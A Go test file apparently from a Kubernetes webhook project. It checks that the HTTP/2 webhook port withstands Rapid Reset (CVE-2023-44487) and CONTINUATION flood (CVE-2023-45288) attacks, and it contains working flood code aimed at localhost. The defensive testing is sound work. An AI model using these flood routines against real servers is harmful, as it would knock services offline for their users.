package hostile

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strconv"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	utilrand "k8s.io/apimachinery/pkg/util/rand"

	"github.com/deckhand-dev/deckhand/internal/webhookserver"
)

// podWebhookPath is the webhook the API server calls for every pod created
// in the cluster: the one an attacker slowing it would hurt most.
const podWebhookPath = "/mutate-v1-pod-sidecarset"

// TestWebhookServerHTTP2: the webhook port offers HTTP/2, and the two
// attacks on an HTTP/2 server that cost the attacker least are refused:
// streams opened and reset at once (Rapid Reset, CVE-2023-44487) do not
// slow a well-behaved client's admission calls nor grow the manager's
// memory, and a header block continued without end (CONTINUATION flood,
// CVE-2023-45288) is cut off once it passes the header limit.
func TestWebhookServerHTTP2(t *testing.T) {
	ensureDeckhand(t)

	t.Run("rapid reset", func(t *testing.T) {
		const (
			attackers = 4
			// attackFor is how long the attack lasts; the well-behaved
			// client calls all along.
			attackFor = 5 * time.Second
			// streamsPerConn bounds the streams one connection opens.
			streamsPerConn = 20000
			// slowestCall bounds a well-behaved call (a TLS handshake of
			// its own, a review, an answer). Undisturbed it takes about a
			// millisecond; the bound leaves a 2-core machine that also
			// runs etcd, the API server and the attackers room for
			// scheduling delays, and still fails a server that lets the
			// attack hold admission calls up for seconds.
			slowestCall = 2 * time.Second
			// rssGrowth bounds the manager's memory growth: each
			// connection runs at most MaxConcurrentStreams (250) handlers
			// and queues at most four times as many before it is closed,
			// so the 4 connections hold at most 5,000 requests, some 8 KiB
			// each (a goroutine's stack, the request and its headers):
			// 40 MiB, and the garbage collector lets the heap grow to
			// twice what is live before it collects (GOGC=100).
			rssGrowth = 80 << 20
		)
		review := podReview(t)
		// The first pod review a manager answers takes longer than the
		// rest (0.85 s measured here with no attack at all): the latency
		// bound is about the attack, so one review is answered before.
		if code, body, err := postWebhook(t, podWebhookPath, bytes.NewReader(review), 30*time.Second); err != nil || code != http.StatusOK {
			t.Fatalf("a call before the attack: %d %q %v", code, body, err)
		}
		before := managerRSS(t)
		peak := before
		deadline := time.Now().Add(attackFor)
		results := make(chan resetFlood, attackers)
		var wg sync.WaitGroup
		for i := range attackers {
			// Half the attackers announce a body they never send: the
			// handler of a reset stream finds the body cut short. The
			// others send none (END_STREAM on the HEADERS): the handler
			// runs through, as in the attack seen in the wild.
			withBody := i%2 == 0
			wg.Go(func() { results <- rapidReset(deadline, streamsPerConn, withBody) })
		}

		var latencies []time.Duration
		for time.Now().Before(deadline) {
			start := time.Now()
			code, body, err := postWebhook(t, podWebhookPath, bytes.NewReader(review), 30*time.Second)
			latencies = append(latencies, time.Since(start))
			if err != nil || code != http.StatusOK {
				t.Errorf("call %d during the attack: %d %q %v", len(latencies), code, body, err)
			} else if resp := reviewResponse(t, code, body); !resp.Allowed {
				t.Errorf("call %d during the attack: answered %+v, want allowed", len(latencies), resp)
			}
			peak = max(peak, managerRSS(t))
		}
		wg.Wait()
		close(results)
		after := managerRSS(t)
		peak = max(peak, after)

		var streams int64
		for r := range results {
			if r.err != nil {
				t.Errorf("attacker: %v", r.err)
			}
			streams += r.streams
			t.Logf("an attacker (body announced %v) opened %d connections (%d more refused) and sent %d HEADERS+RST_STREAM pairs on them; the server sent GOAWAY on or closed %d of them (GOAWAY codes %v)",
				r.withBody, r.conns, r.refused, r.streams, r.closedByServer, r.goAways)
		}
		slices.Sort(latencies)
		if len(latencies) < 3 {
			t.Fatalf("only %d well-behaved calls during the attack", len(latencies))
		}
		slowest, median, p99 := latencies[len(latencies)-1], latencies[len(latencies)/2], latencies[len(latencies)*99/100]
		t.Logf("%d well-behaved calls during the attack: median %v, 99th percentile %v, slowest %v; manager RSS %d MiB before, %d MiB at the peak, %d MiB after",
			len(latencies), median.Round(time.Millisecond), p99.Round(time.Millisecond), slowest.Round(time.Millisecond), before>>20, peak>>20, after>>20)
		if streams < 10000 {
			t.Errorf("the attack sent only %d streams: it did not load the server", streams)
		}
		if slowest > slowestCall {
			t.Errorf("the slowest of %d well-behaved calls took %v (median %v), want at most %v", len(latencies), slowest, median, slowestCall)
		}
		if peak-before > rssGrowth {
			t.Errorf("the manager's RSS grew by %d MiB (%d MiB to %d MiB), want at most %d MiB", (peak-before)>>20, before>>20, peak>>20, rssGrowth>>20)
		}
		if suite.Deckhand.Exited() {
			t.Fatalf("the manager exited; its log:\n%s", suite.Deckhand.Logs(80))
		}
		if err := suite.Deckhand.WaitReady(ctx(t, 30*time.Second), 10*time.Second); err != nil {
			t.Errorf("after the attack: %v", err)
		}
	})

	t.Run("continuation flood", func(t *testing.T) {
		const (
			flood = 16 << 20
			// closedWithin bounds the time from the first frame to the
			// server's close: it stops reading once the header block
			// passes its limit, a handful of 16 KiB frames in.
			closedWithin = 10 * time.Second
			// readBound bounds what the client had written when it saw the
			// server's GOAWAY: the header limit (64 KiB), the frame that
			// crossed it, and what the socket buffers held on the way.
			readBound = 1 << 20
		)
		conn, fr := dialH2(t)
		defer conn.Close()
		start := time.Now()
		_ = conn.SetDeadline(start.Add(closedWithin))

		var written atomic.Int64
		wrote := make(chan error, 1)
		go func() { wrote <- continuationFlood(fr, flood, &written) }()

		var (
			goAway   *http2.GoAwayFrame
			readErr  error
			atGoAway int64
			goAwayAt time.Duration
		)
		for goAway == nil && readErr == nil {
			f, err := fr.ReadFrame()
			if err != nil {
				readErr = err
				break
			}
			if g, ok := f.(*http2.GoAwayFrame); ok {
				goAway, atGoAway, goAwayAt = g, written.Load(), time.Since(start)
			}
		}
		if goAway != nil {
			// After its GOAWAY the server closes: read to the end.
			if _, readErr = io.Copy(io.Discard, conn); readErr == nil {
				readErr = io.EOF
			}
		}
		closedAfter := time.Since(start)
		writeErr := <-wrote
		total := written.Load()

		var ne net.Error
		if errors.As(readErr, &ne) && ne.Timeout() {
			t.Fatalf("the connection was still open %v after a flood of CONTINUATION frames began (%d bytes written, write error %v)", closedWithin, total, writeErr)
		}
		t.Logf("the server sent GOAWAY %v after %v (%d bytes written by then), closed after %v (%v); the client wrote %d of %d bytes (%v)",
			goAwayString(goAway), goAwayAt.Round(time.Millisecond), atGoAway, closedAfter.Round(time.Millisecond), readErr, total, flood, writeErr)
		if writeErr == nil {
			t.Errorf("the client wrote all %d bytes of one header block: the server never closed the connection on it", flood)
		}
		if goAway == nil {
			t.Errorf("the server closed the connection without a GOAWAY (%v)", readErr)
		} else if atGoAway > readBound {
			t.Errorf("the client had written %d bytes of one header block when the server's GOAWAY arrived, want at most %d (the header limit is %d)", atGoAway, readBound, webhookserver.MaxHeaderBytes)
		}

		code, body, err := postWebhook(t, podWebhookPath, bytes.NewReader(podReview(t)), 30*time.Second)
		if err != nil || code != http.StatusOK {
			t.Errorf("a call after the flood: %d %q %v", code, body, err)
		}
	})
}

// podReview is an AdmissionReview of a pod create, as the API server sends
// it to the pod webhook.
func podReview(t *testing.T) []byte {
	t.Helper()
	pod := &corev1.Pod{
		TypeMeta:   metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"},
		ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "web"},
		Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "registry.example/app:1"}}},
	}
	return forgedReview(t, corev1.SchemeGroupVersion.WithKind("Pod"), corev1.SchemeGroupVersion.WithResource("pods"), "default", pod.Name, pod)
}

// dialH2 opens a TLS connection to the webhook port offering only HTTP/2,
// sends the client preface and SETTINGS, and acknowledges the server's
// SETTINGS, as any HTTP/2 client starts.
func dialH2(t *testing.T) (*tls.Conn, *http2.Framer) {
	t.Helper()
	conn, fr, err := openH2()
	if err != nil {
		t.Fatal(err)
	}
	return conn, fr
}

func openH2() (*tls.Conn, *http2.Framer, error) {
	raw, err := net.DialTimeout("tcp", net.JoinHostPort("127.0.0.1", strconv.Itoa(suite.WebhookPort)), 10*time.Second)
	if err != nil {
		return nil, nil, err
	}
	// A small send buffer: bytes the client counts as written have left it
	// rather than waiting in its own socket.
	_ = raw.(*net.TCPConn).SetWriteBuffer(64 << 10)
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // the caller is the attacker
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	if err := conn.Handshake(); err != nil {
		raw.Close()
		return nil, nil, fmt.Errorf("TLS handshake offering h2: %w", err)
	}
	if p := conn.ConnectionState().NegotiatedProtocol; p != "h2" {
		conn.Close()
		return nil, nil, fmt.Errorf("the server did not negotiate h2 (negotiated %q)", p)
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		conn.Close()
		return nil, nil, err
	}
	fr := http2.NewFramer(conn, conn)
	if err := fr.WriteSettings(); err != nil {
		conn.Close()
		return nil, nil, err
	}
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			conn.Close()
			return nil, nil, fmt.Errorf("waiting for the server's SETTINGS: %w", err)
		}
		if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
			break
		}
	}
	if err := fr.WriteSettingsAck(); err != nil {
		conn.Close()
		return nil, nil, err
	}
	_ = conn.SetDeadline(time.Time{})
	return conn, fr, nil
}

// resetFlood is what one Rapid Reset attacker did.
type resetFlood struct {
	conns, closedByServer, refused int
	streams                        int64
	withBody                       bool
	goAways                        map[string]int
	err                            error
}

// rapidReset opens connections one after the other until deadline, and on
// each opens up to perConn streams, a POST to the pod webhook each (with a
// body to come if withBody), resetting every one (RST_STREAM CANCEL) right
// after its HEADERS.
func rapidReset(deadline time.Time, perConn int, withBody bool) resetFlood {
	r := resetFlood{goAways: map[string]int{}, withBody: withBody}
	for time.Now().Before(deadline) {
		conn, fr, err := openH2()
		if err != nil {
			if r.conns == 0 {
				r.err = err
			} else {
				// The server refused a further connection: the attack
				// ends there.
				r.refused++
			}
			return r
		}
		r.conns++
		sent, goAway, closed := resetStreams(conn, fr, deadline, perConn, withBody)
		r.streams += sent
		if closed {
			r.closedByServer++
		}
		if goAway != "" {
			r.goAways[goAway]++
		}
	}
	return r
}

// resetStreams runs the attack on one connection and reports how many
// streams it sent, the code of the server's GOAWAY if one came, and whether
// the server closed the connection, or sent GOAWAY, before the attacker was
// done.
func resetStreams(conn *tls.Conn, fr *http2.Framer, deadline time.Time, perConn int, withBody bool) (int64, string, bool) {
	defer conn.Close()
	authority := "127.0.0.1:" + strconv.Itoa(suite.WebhookPort)
	// The attacker reads what the server sends, as a real client does: a
	// server whose writes block would stop reading for its own reasons.
	var (
		goAway  string
		readErr error
	)
	readDone := make(chan struct{})
	go func() {
		defer close(readDone)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				readErr = err
				return
			}
			if g, ok := f.(*http2.GoAwayFrame); ok && goAway == "" {
				goAway = g.ErrCode.String()
			}
		}
	}()
	// Frames are batched into large writes, as a fast attacker sends them.
	bw := bufio.NewWriterSize(conn, 64<<10)
	wfr := http2.NewFramer(bw, nil)
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	var sent int64
	closed := false
	for i := range perConn {
		if i%64 == 0 && !time.Now().Before(deadline) {
			break
		}
		id := uint32(2*i + 1)
		block.Reset()
		for _, f := range []hpack.HeaderField{
			{Name: ":method", Value: http.MethodPost}, {Name: ":scheme", Value: "https"},
			{Name: ":authority", Value: authority}, {Name: ":path", Value: podWebhookPath},
			{Name: "content-type", Value: "application/json"},
		} {
			_ = enc.WriteField(f)
		}
		if err := wfr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: !withBody}); err != nil {
			closed = true
			break
		}
		if err := wfr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			closed = true
			break
		}
		sent++
		if i%64 == 63 {
			if err := bw.Flush(); err != nil {
				closed = true
				break
			}
		}
	}
	if err := bw.Flush(); err != nil {
		closed = true
	}
	// Whether the server closed it or said it would (GOAWAY): at once if
	// it had already, else the read times out.
	_ = conn.SetReadDeadline(time.Now().Add(time.Second))
	<-readDone
	var ne net.Error
	if goAway != "" || !errors.As(readErr, &ne) || !ne.Timeout() {
		closed = true
	}
	return sent, goAway, closed
}

// continuationFlood writes one header block, a POST to the pod webhook on
// stream 1, and continues it with CONTINUATION frames of literal header
// fields of random names, valid HPACK each, until flood bytes are written
// or a write fails. It counts in written the bytes of the frames written.
func continuationFlood(fr *http2.Framer, flood int64, written *atomic.Int64) error {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: http.MethodPost}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "127.0.0.1:" + strconv.Itoa(suite.WebhookPort)}, {Name: ":path", Value: podWebhookPath},
	} {
		_ = enc.WriteField(f)
	}
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndStream: true}); err != nil {
		return err
	}
	written.Add(int64(9 + block.Len()))
	const frameSize = 16 << 10 // the largest frame every HTTP/2 peer accepts
	for written.Load() < flood {
		block.Reset()
		for block.Len() < frameSize-128 {
			// Never indexed: the server keeps none of them in its table,
			// each costs it the decoding only.
			_ = enc.WriteField(hpack.HeaderField{Name: "x-" + utilrand.String(16), Value: utilrand.String(64), Sensitive: true})
		}
		if err := fr.WriteContinuation(1, false, block.Bytes()); err != nil {
			return err
		}
		written.Add(int64(9 + block.Len()))
	}
	return nil
}

func goAwayString(g *http2.GoAwayFrame) string {
	if g == nil {
		return "none"
	}
	return fmt.Sprintf("%v (last stream %d)", g.ErrCode, g.LastStreamID)
}
